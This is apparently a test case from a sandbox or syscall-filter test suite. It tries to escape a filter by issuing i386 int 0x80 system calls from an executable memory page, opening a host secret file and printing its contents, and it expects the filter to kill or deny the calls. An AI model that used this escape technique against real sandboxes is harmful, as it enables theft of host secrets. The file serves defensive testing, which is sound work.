# id: FLT-02
# category: filter
# technique: i386 ABI through int 0x80 from an RWX page: open(5) the host secret, read(3) it, write(4) it to stdout
# expect: KILL|DENY(ENOSYS)
# catalogue: 24,26
# race: no
# audit: syscall.unknown|syscall.refused|filter.kill
import ctypes, mmap, os, pvesc

def attack(c):
    # int 0x80 takes 32-bit pointers: put the path and buffer below 4 GiB
    m = mmap.mmap(-1, 8192, flags=mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS | 0x40)  # MAP_32BIT
    base = ctypes.addressof(ctypes.c_char.from_buffer(m))
    m[:len(c["secret"]) + 1] = c["secret"].encode() + b"\0"
    fd = pvesc.int80(5, base, 0, 0)
    pvesc.out("int80 open", fd)
    if 0 <= fd < 1 << 31:
        n = pvesc.int80(3, fd, base + 4096, 200)
        pvesc.out("int80 read", n)
        if 0 < n < 4096:
            pvesc.int80(4, 1, base + 4096, n)

def twin(c):
    return pvesc.raw(39) == os.getpid()  # native getpid via the same RWX path

pvesc.main(attack, twin)
